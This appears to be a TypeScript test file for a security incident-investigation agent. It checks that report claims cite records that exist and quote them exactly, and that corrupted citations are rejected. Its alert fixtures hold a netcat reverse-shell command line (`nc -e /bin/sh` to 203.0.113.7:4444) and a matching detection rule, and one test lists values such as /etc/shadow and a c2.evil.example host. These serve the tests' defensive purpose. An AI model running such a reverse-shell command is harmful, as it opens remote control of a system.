/**
 * Guarantee 30: every claim cites records that exist and hold what it quotes. Every kind of claim × every kind of record × each
 * place corrupted is a hypothesis with its reason; and what the playbook writes of a true case is never called one.
 */
import { createReadStream } from 'node:fs'
import { Readable } from 'node:stream'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { cited } from '../../agent/claude/cite.ts'
import { investigate } from '../../agent/investigate.ts'
import { recordReader } from '../../incidents/record-reader.ts'
import { playbook } from '../../agent/playbook/playbook.ts'
import { readInput } from '../../collectors/read.ts'
import { FixedClock } from '../../domain/clock.ts'
import type { EvidenceRef } from '../../domain/evidence.ts'
import { formatEventTime, fromDate } from '../../domain/event-time.ts'
import type { Incident, RecordedDecision } from '../../domain/incident.ts'
import type { AttackStep } from '../../domain/graph.ts'
import { type Claim, claimParts, type GroundedClaim, type Report } from '../../domain/report.ts'
import type { Entity } from '../../domain/entity.ts'
import { redact } from '../../domain/redact.ts'
import { loadScenario, mutate, type Scenario, scenarioNames, toJsonLines, withNoise } from '../../evals/scenario.ts'
import type { Coverage } from '../../incidents/case-file.ts'
import { groundClaim, groundSaid, type RecordReader } from '../../incidents/grounding.ts'
import { correlatePending } from '../../incidents/pipeline.ts'
import { stepId } from '../../incidents/record-field.ts'
import { type Fielded, type FieldedKind, isFielded } from '../../incidents/record-fields.ts'
import { quote, sentenceParts } from '../../incidents/sentence-parts.ts'
import type { Database } from '../../store/database.ts'
import type { FindingFacts } from '../../store/finding-facts.ts'
import { accept } from '../../store/intake.ts'
import { listIncidents } from '../../store/incidents.ts'
import { ensurePartitions } from '../../store/partitions.ts'
import { createSource } from '../../store/sources.ts'
import { conformance, filesOf } from '../conformance/data.ts'
import { embeddedDatabase } from '../support/database.ts'
import { delivery, noon, podRecords, process_, storedAlert } from '../support/records.ts'
import { deriveAll, recordScan } from '../support/posture.ts'
import { recordInventory } from '../support/shop.ts'
import { cases, full, property, seed } from '../support/sizes.ts'

vi.setConfig({ testTimeout: full ? 3_600_000 : 120_000 })

const alertIds = ['019aa0f0-8d3c-7a51-9c11-4f0a52be8d01', '019aa0f0-8d3c-7a51-9c11-77d1c0a9e302'] as const
const at = noon + 1_234_567n
const alerts = alertIds.map((id, index) =>
  storedAlert(id, {
    eventNs: at + BigInt(index) * 61_000_000_000n,
    rule: `Netcat Remote Code Execution in Container ${index}`,
    process: process_({ cmdline: `nc -e /bin/sh 203.0.113.${index + 7} 4444` }),
    connection: { serverIp: `203.0.113.${index + 7}`, serverPort: 4444 } as never,
    fields: { 'proc.pid': 1234n + BigInt(index), 'fd.name': `10.42.0.7:51${index}12->203.0.113.7:4444`, long: `${'k7 '.repeat(60)}end` },
  }),
)
const [pod] = podRecords({ name: 'checkout-6c9d8f7b5d-h2k4x' }).entities
const entities = [4101n, 4102n].map((id): Entity => ({
  ...(pod as Entity),
  id,
  origin: 'inventory',
  sourceId: null,
  firstNs: noon,
  lastNs: noon,
}))
const decisions = ['019aa0f0-8d3c-7a51-9c11-aaaaaaaaaa01', '019aa0f0-8d3c-7a51-9c11-aaaaaaaaaa02'].map((id): RecordedDecision => ({
  id,
  at: new Date(0),
  principalId: 'u',
  decision: { kind: 'note', incident: 'i', text: 'n' },
  reason: 'Ticket 48213, seen by ada',
  links: [],
}))
const coverage = ['falco-east-1', 'falco-west-2'].map((name): Coverage => ({
  name,
  collector: 'falco',
  scope: 'lab',
  lastSeenAt: new Date('2026-11-24T12:34:56.789Z'),
}))
const findings = ['019aa0f0-8d3c-7a51-9c11-bbbbbbbbbb01', '019aa0f0-8d3c-7a51-9c11-bbbbbbbbbb02'].map((id): FindingFacts => ({
  id,
  scope: 'global',
  class: 'vulnerability',
  check: 'CVE-2021-23337',
  aliases: [],
  title: 'lodash: command injection via template',
  severity: 'high',
  status: 'open',
  resource: { kind: 'image', key: `sha256:${'5'.repeat(64)}`, name: 'registry.example.com/shop/checkout:1.8.3', namespace: null },
  package: { key: 'pkg:npm/lodash@4.17.20', name: 'lodash', version: '4.17.20', fixedIn: ['4.17.21'] },
  paths: ['app/node_modules/lodash/package.json'],
  cvss: { score: 7.2, vector: 'CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H' },
  remediation: null,
  kev: '2026-11-01',
  epss: 0.04271,
  scanner: 'trivy',
  lastNs: noon,
}))
const steps = [5101n, 5102n].map((dst): AttackStep => ({
  src: 4101n,
  type: 'mounted-secret',
  dst,
  cost: 0,
  scope: 'lab',
  unit: 'namespace/shop',
  fromNs: noon,
  untilNs: null,
  technique: { id: 'T1552.007', name: 'Unsecured Credentials: Container API', tactic: 'TA0006', matrix: null },
  precondition: 'code runs in one of its containers',
  because: 'Deployment shop/checkout takes in Secret checkout-db-2',
  evidence: [],
  fix: { key: 'k', text: 'Do not give Secret checkout-db-2 to Deployment shop/checkout', on: { scope: 'lab', kind: 'pod', key: 'k' } },
}))
const incidents = ['019aa0f0-8d3c-7a51-9c11-cccccccccc01', '019aa0f0-8d3c-7a51-9c11-cccccccccc02'].map((id): Incident => ({
  id,
  scope: 'lab-9',
  title: 'Shell started by java in shop/checkout-6c9d8f7b5d-h2k4x',
  state: 'open',
  severity: 'critical',
  severityFloor: 'critical',
  severityReasons: [],
  correlationVersion: '1',
  alertCount: 507,
  expiredAlerts: 0,
  firstNs: at,
  lastNs: at + 61_000_000_000n,
  tactics: [],
  techniques: [],
  rules: [],
  entityIds: [],
  revision: 1,
  createdAt: new Date(0),
  updatedAt: new Date(0),
}))
const fielded: Record<FieldedKind, Fielded> = {
  proposal: { id: '019aa0f0-8d3c-7a51-9c11-cccccccccc02', fields: { action: 'kubernetes.isolate_pod' } },
  fix: { id: '019aa0f0-8d3c-7a51-9c11-cccccccccc03', fields: { title: 'Update lodash to 4.17.21' } },
  rule: { id: 'lab/Netcat remote code execution', fields: { condition: 'spawned_process and proc.name = nc' } },
}
const memory: RecordReader = {
  alert: async (id) => alerts.find((one) => one.id === id.toLowerCase()),
  entity: async (id) => entities.find((one) => /^\d+$/.test(id) && one.id === BigInt(id)),
  decision: async (id) => decisions.find((one) => one.id === id),
  coverage: async (name) => coverage.find((one) => one.name === name),
  finding: async (id) => findings.find((one) => one.id === id.toLowerCase()),
  step: async (id) => steps.find((one) => stepId(one) === id),
  incident: async (id) => incidents.find((one) => one.id === id.toLowerCase()),
  fielded: async (record, id) => (fielded[record].id === id ? fielded[record] : undefined),
}
const gone = (record: EvidenceRef['record']): RecordReader => ({
  ...memory,
  [isFielded(record) ? 'fielded' : record]: async () => undefined,
})
const read = (record: EvidenceRef['record'], id: string): Promise<object | undefined> =>
  isFielded(record) ? memory.fielded(record, id) : memory[record](id)

const kinds: readonly Claim['kind'][] = ['observation', 'causal', 'absence', 'inference']
/** Of each kind of record: fields that are read, with what stands there. */
const fields: Record<EvidenceRef['record'], EvidenceRef[]> = {
  alert: [
    ['rule', 'Netcat Remote Code Execution in Container 0'],
    ['eventTime', formatEventTime(at)],
    ['process.cmdline', 'nc -e /bin/sh 203.0.113.7 4444'],
    ['connection.serverIp', '203.0.113.7'],
    ['connection.serverPort', '4444'],
    ['fields.proc.pid', '1234'],
    ['fields.fd.name', '10.42.0.7:51012->203.0.113.7:4444'],
    ['fields.long', `${'k7 '.repeat(60)}end`],
  ].map(([path, value]) => ({ record: 'alert', id: alertIds[0], path, value }) as EvidenceRef),
  entity: [
    ['name', 'checkout-6c9d8f7b5d-h2k4x'],
    ['pod', 'shop/checkout-6c9d8f7b5d-h2k4x'],
    ['properties.ip', '10.0.0.7'],
    ['properties.owner.kind', 'Deployment'],
  ].map(([path, value]) => ({ record: 'entity', id: '4101', path, value }) as EvidenceRef),
  decision: [{ record: 'decision', id: decisions[0]?.id ?? '', path: 'reason', value: 'Ticket 48213, seen by ada' }],
  coverage: [
    ['lastSeenAt', '2026-11-24T12:34:56.789Z'],
    ['name', 'falco-east-1'],
  ].map(([path, value]) => ({ record: 'coverage', id: 'falco-east-1', path, value }) as EvidenceRef),
  finding: [
    ['check', 'CVE-2021-23337'],
    ['severity', 'high'],
    ['status', 'open'],
    ['package', 'lodash'],
    ['version', '4.17.20'],
    ['fixedIn', '4.17.21'],
    ['kev', '2026-11-01'],
    ['epss', '0.04271'],
    ['cvss', '7.2'],
    ['resource', 'registry.example.com/shop/checkout:1.8.3'],
    ['paths', 'app/node_modules/lodash/package.json'],
  ].map(([path, value]) => ({ record: 'finding', id: findings[0]?.id ?? '', path, value }) as EvidenceRef),
  step: [
    ['because', 'Deployment shop/checkout takes in Secret checkout-db-2'],
    ['technique', 'T1552.007'],
    ['fix', 'Do not give Secret checkout-db-2 to Deployment shop/checkout'],
  ].map(([path, value]) => ({ record: 'step', id: '4101/mounted-secret/5101', path, value }) as EvidenceRef),
  incident: [
    ['alertCount', '507'],
    ['severity', 'critical'],
    ['firstTime', formatEventTime(at)],
    ['title', 'Shell started by java in shop/checkout-6c9d8f7b5d-h2k4x'],
  ].map(([path, value]) => ({ record: 'incident', id: incidents[0]?.id ?? '', path, value }) as EvidenceRef),
  proposal: fieldsOf('proposal'),
  fix: fieldsOf('fix'),
  rule: fieldsOf('rule'),
}
function fieldsOf(record: FieldedKind): EvidenceRef[] {
  const { id, fields: held } = fielded[record]
  return Object.entries(held).map(([path, value]) => ({ record, id, path, value }))
}
const whole = (record: EvidenceRef['record'], id: string): EvidenceRef => ({ record, id, path: null, value: null })

/** A true claim of a kind that quotes this value of this record; with the further records its kind needs. */
const claimOf = (kind: Claim['kind'], evidence: EvidenceRef, quoted = evidence.value ?? ''): Claim => ({
  kind,
  text: `It was ${quote(quoted)} that was seen.`,
  evidence: [
    evidence,
    ...(kind === 'causal' ? [whole('alert', alertIds[1])] : []),
    ...(kind === 'absence' && evidence.record !== 'coverage' ? [whole('coverage', 'falco-west-2')] : []),
  ],
})
const everyClaim = kinds.flatMap((kind) => Object.values(fields).flatMap((list) => list.map((evidence) => ({ kind, evidence }))))

/** The text with one place changed: another digit, another letter, one more, one less. */
function corrupted(text: string): string[] {
  const next = (character: string): string =>
    /\d/.test(character) ? String((Number(character) + 1) % 10) : String.fromCodePoint((character.codePointAt(0) ?? 64) + 1)
  return Array.from(text).flatMap((character, at, all) => {
    const around = (middle: string): string => [...all.slice(0, at), middle, ...all.slice(at + 1)].join('')
    return [around(next(character)), around(''), around(`${character}0`)]
  })
}

async function isHypothesis(claim: Claim, reader: RecordReader = memory): Promise<GroundedClaim> {
  const found = await groundClaim(claim, reader)
  expect(found.grounded, JSON.stringify(claim)).toBe(false)
  expect(found.problems.length).toBeGreaterThan(0)
  expect(found.problems.every((problem) => problem.length > 10)).toBe(true)
  return found
}

describe('one claim', () => {
  it('guarantee 30: is a fact when each record holds what is quoted of it, of every kind', async () => {
    for (const { kind, evidence } of everyClaim)
      expect(await groundClaim(claimOf(kind, evidence), memory)).toMatchObject({ grounded: true, problems: [] })
    expect(everyClaim).toHaveLength(4 * 36)
  })

  it('guarantee 30: is a hypothesis when one place of the cited value, of the quotation, or of both is another', async () => {
    let tried = 0
    for (const { kind, evidence } of everyClaim)
      for (const value of corrupted(evidence.value ?? '')) {
        if (value === evidence.value) continue
        await isHypothesis(claimOf(kind, { ...evidence, value }, evidence.value ?? ''))
        await isHypothesis(claimOf(kind, evidence, value))
        await isHypothesis(claimOf(kind, { ...evidence, value }))
        tried += 3
      }
    expect(tried).toBeGreaterThan(10_000)
  })

  it('guarantee 30: is a hypothesis when one place of the record’s id or of the path is another', async () => {
    for (const { kind, evidence } of everyClaim) {
      const { record, path } = evidence
      for (const id of corrupted(evidence.id)) {
        const other = await read(record, id)
        // Another record that exists and holds the same is no corruption: the claim stands on it just as well.
        if (other === undefined) await isHypothesis(claimOf(kind, { ...evidence, id }))
      }
      for (const otherPath of corrupted(path ?? '')) await isHypothesis(claimOf(kind, { ...evidence, path: otherPath }))
      await isHypothesis(claimOf(kind, { ...evidence, path: null }))
      await isHypothesis(claimOf(kind, { ...evidence, value: null }, evidence.value ?? ''))
      for (const inherited of [
        'fields.constructor',
        'fields.__proto__',
        'properties.constructor.name',
        'properties.__proto__',
        'properties.toString',
      ])
        await isHypothesis(claimOf(kind, { ...evidence, path: inherited, value: 'Object' }))
    }
  })

  it('guarantee 30: is a hypothesis when its record was deleted, and when it cites nothing', async () => {
    for (const { kind, evidence } of everyClaim) {
      const lost = await isHypothesis(claimOf(kind, evidence), gone(evidence.record))
      expect(lost.problems.join()).toMatch(/does not exist/)
      const bare = await isHypothesis({ ...claimOf(kind, evidence), evidence: [] })
      expect(bare.problems.join()).toMatch(/needs .* cited record/)
    }
  })

  it('guarantee 30: a causal claim needs two records, and one under two spellings is one', async () => {
    for (const { evidence } of everyClaim) {
      const { id } = evidence
      const twice = [id, id.toUpperCase(), `0${id}`, `00${id}`]
      for (const same of twice)
        await isHypothesis({ ...claimOf('observation', evidence), kind: 'causal', evidence: [evidence, { ...evidence, id: same }] })
      const missing = { ...whole('alert', alertIds[1]), id: alertIds[1].replace('019a', '019b') }
      await isHypothesis({ ...claimOf('causal', evidence), evidence: [evidence, missing] })
    }
  })

  it('guarantee 30: a claim of absence needs coverage that exists', async () => {
    for (const { evidence } of everyClaim.filter((one) => one.evidence.record !== 'coverage')) {
      const found = await isHypothesis({ ...claimOf('absence', evidence), evidence: [evidence] })
      expect(found.problems.join()).toMatch(/coverage/)
      await isHypothesis({ ...claimOf('absence', evidence), evidence: [evidence, whole('coverage', 'falco-north-3')] })
    }
  })

  it('guarantee 30: coverage may be told as it stood in the case or stands now, and no other way', async () => {
    const [evidence] = fields.coverage as [EvidenceRef]
    const earlier = { ...evidence, value: '2026-11-24T12:34:50.000Z' }
    const seen = new Map([['falco-east-1', '2026-11-24T12:34:50.000Z']])
    expect((await groundClaim(claimOf('absence', earlier), memory, seen)).grounded).toBe(true)
    expect((await groundClaim(claimOf('absence', evidence), memory, seen)).grounded).toBe(true)
    await isHypothesis(claimOf('absence', earlier))
    for (const value of ['2026-11-24T12:34:49.000Z', 'never', '0', ''])
      expect((await groundClaim(claimOf('absence', { ...evidence, value }), memory, seen)).grounded).toBe(false)
  })

  it('guarantee 30: what is quoted must stand in a record this claim cites, as a whole word', async () => {
    for (const { kind, evidence } of everyClaim) {
      await isHypothesis(claimOf(kind, evidence, 'checkout-other'))
      await isHypothesis({ ...claimOf(kind, evidence), text: `${quote(evidence.value ?? '')} and ${quote('198.51.100.1')}` })
      await isHypothesis({ ...claimOf(kind, evidence), text: `It was ⟦${evidence.value}` })
      await isHypothesis({ ...claimOf(kind, evidence), text: '⟦⟧ was seen' })
    }
    const command = fields.alert.find((one) => one.path === 'process.cmdline') as EvidenceRef
    for (const part of ['203.0.113.7', '/bin/sh', 'nc -e', '4444'])
      expect((await groundClaim(claimOf('observation', command, part), memory)).grounded).toBe(true)
    for (const part of ['203.0.113', '/bin', 'sh', '444', '3.0.113.7', 'c -e']) await isHypothesis(claimOf('observation', command, part))
  })

  it('guarantee 30: what looks like a value is held to the records also without quotation marks', async () => {
    const command = fields.alert.find((one) => one.path === 'process.cmdline') as EvidenceRef
    const say = (text: string): Claim => ({ kind: 'observation', text, evidence: [command] })
    expect((await groundClaim(say('A shell was tied to 203.0.113.7, which is outside.'), memory)).grounded).toBe(true)
    const strange =
      '203.0.113.8 198.51.100.23 2001:db8::17 fe80:1:2:3:4::1 /tmp/.x/miner /etc/shadow 12:34:56 c2.evil.example checkout-6c9d8f7b5d-zzz9x 137fd247aabd e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
    for (const value of strange.split(' ')) {
      const found = await isHypothesis(say(`A shell was tied to ${value}, which is outside.`))
      expect(found.problems).toEqual(['it names a value, without quoting it, that no cited record holds'])
    }
    for (const words of [
      '12 alerts within 62 seconds',
      'alerts go back to 2026-11-01',
      'a flaw in that application: mend and redeploy it',
      'T1059.004 (Unix Shell), TA0002',
    ])
      expect((await groundClaim(say(words), memory)).grounded, words).toBe(true)
  })

  it('guarantee 30: no text an analyst makes up is believed because of its form', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme', maxLength: 40 }), fc.constantFrom(...everyClaim), async (made, { kind, evidence }) => {
        const bare = made.replaceAll('⟦', '[').replaceAll('⟧', ']')
        if (evidence.value?.includes(bare) === true) return
        await isHypothesis(claimOf(kind, evidence, made))
        await isHypothesis(claimOf(kind, { ...evidence, value: made }))
      }),
      property(10_000, 200),
    )
  })
})

describe('what the playbook writes', () => {
  let db: Database
  const clock = new FixedClock('2026-11-24T12:00:00Z')
  beforeAll(async () => {
    db = await embeddedDatabase()
    await ensurePartitions(db, clock.now())
  })
  afterAll(async () => db.close())

  async function reportsOf(scenario: Scenario, scope: string): Promise<Report[]> {
    await recordInventory(db, clock, scope, scenario.objects)
    await recordScan(db, clock, scope, scenario.trivy)
    await deriveAll(db, clock)
    return investigated(scope, [['alerts.jsonl', Readable.from([Buffer.from(toJsonLines(scenario.alerts))])]])
  }

  /** What the playbook reports of everything in these files. */
  async function investigated(scope: string, files: readonly [string, Readable][]): Promise<Report[]> {
    const source = await createSource(db, { name: scope, collector: 'falco', scope, secret: null, at: clock.now() })
    const sourceId = source?.id ?? null
    for (const [path, input] of files)
      await readInput(input, {
        path,
        format: 'falco',
        source: { sourceId, sourceName: scope, scope, receivedNs: fromDate(clock.now()) },
        onBatch: async ({ records }) => {
          const alerts = records.flatMap((record) => (record.kind === 'alert' ? [record.alert] : []))
          const internals = records.flatMap((record) => (record.kind === 'internal' ? [record] : []))
          await accept(db, clock, [delivery({ sourceId, scope, alerts, internals })])
        },
      })
    while ((await correlatePending(db, clock)).alerts > 0);
    const reports: Report[] = []
    let cursor: string | undefined
    do {
      const page = await listIncidents(db, { scope }, { limit: 200, cursor })
      for (const incident of page.incidents) {
        const { report, error } = await investigate(db, clock, playbook, incident.id, { cluster: () => ({ simulated: true }) })
        expect(error).toBeNull()
        reports.push(report as Report)
      }
      cursor = page.next ?? undefined
    } while (cursor !== undefined)
    return reports
  }
  const claimsOf = (report: Report): GroundedClaim[] => claimParts.flatMap((part) => report[part])

  it('guarantee 30: is grounded to the last sentence in every scenario and every mutation of it, and not when corrupted', async () => {
    const noise = loadScenario('everyday-noise', clock.now())
    const met = new Map<string, number>()
    let corruptions = 0
    for (const [index, name] of Array.from(
      { length: cases(300, 10) },
      (_, count) => scenarioNames()[count % scenarioNames().length] as string,
    ).entries()) {
      const story = withNoise(loadScenario(name, clock.now()), noise)
      const reports = await reportsOf(index < 3 ? story : mutate(story, seed * 1_000 + index), `grounding-${index}`)
      expect(reports.length).toBeGreaterThan(0)
      for (const report of reports) {
        const claims = claimsOf(report)
        expect(claims.filter((claim) => !claim.grounded)).toEqual([])
        expect(report.ungrounded).toBe(0)
        for (const claim of claims) met.set(claim.kind, (met.get(claim.kind) ?? 0) + 1)
        await asSaid(claims, `grounding-${index}`)
        corruptions += await corruptEach(claims, index)
      }
    }
    expect([...met.keys()].sort()).toEqual([...kinds].sort())
    expect(corruptions).toBeGreaterThan(100)
    const { all, kept, digits, words } = said
    console.log(`its ${all} sentences said by a model: ${kept} kept, ${digits} not for a count in digits, ${words} not for a word`)
    // What is spelled out and ordinary words are never taken for what they are not.
    expect(words).toBe(0)
    expect(kept / all).toBeGreaterThan(0.8)
  })

  const said = { all: 0, kept: 0, digits: 0, words: 0 }
  /** The same sentences as if a model had said them: held to their records word by word, which the playbook counts beyond. */
  async function asSaid(claims: readonly GroundedClaim[], scope: string): Promise<void> {
    const reader = recordReader(db)
    const quotesOf = (text: string): string[] => sentenceParts(text).flatMap((part) => (part.quoted ? [part.text] : []))
    for (const { text, kind, evidence } of claims) {
      const cites = [...new Set(evidence.map(({ record, id }) => `${record}:${id}`))]
      const again = await groundSaid(await cited({ text, kind, cites }, reader), reader, { scopes: new Set([scope]) })
      const doubted = quotesOf(again.text).filter((one) => !quotesOf(redact(text)).includes(one))
      said.all += 1
      if (again.grounded) said.kept += 1
      else if (doubted.some((one) => !/\d/.test(one))) said.words += 1
      else if (doubted.length > 0) said.digits += 1
    }
  }

  /** One place of one cited value of each claim, elsewhere each time. */
  async function corruptEach(claims: readonly GroundedClaim[], salt: number): Promise<number> {
    const reader = recordReader(db)
    let tried = 0
    for (const [number, claim] of claims.entries()) {
      const cited = claim.evidence.flatMap((reference, index) => (reference.value === null || reference.value === '' ? [] : [index]))
      const chosen = cited[(number + salt) % Math.max(1, cited.length)]
      if (chosen === undefined) continue
      const all = corrupted(claim.evidence[chosen]?.value ?? '')
      const value = all[(number * 7 + salt) % all.length] as string
      const evidence = claim.evidence.map((reference, index) => (index === chosen ? { ...reference, value } : reference))
      const found = await groundClaim({ ...claim, evidence }, reader)
      expect(found.grounded, JSON.stringify({ claim, value })).toBe(false)
      tried += 1
    }
    return tried
  }

  conformance('of what Falco really wrote', () => {
    it('guarantee 30: is grounded to the last sentence too, and each of them can be corrupted', async () => {
      const paths = [...(await filesOf('falco-replay')), ...(await filesOf('falco-alerts'))]
      const files = paths.map((path): [string, Readable] => [path, createReadStream(path)])
      const claims = (await investigated('grounding-real', files)).flatMap(claimsOf)
      expect(claims.length).toBeGreaterThan(400)
      expect(claims.filter((claim) => !claim.grounded)).toEqual([])
      expect(await corruptEach(claims, seed)).toBeGreaterThan(400)
    })
  })
})
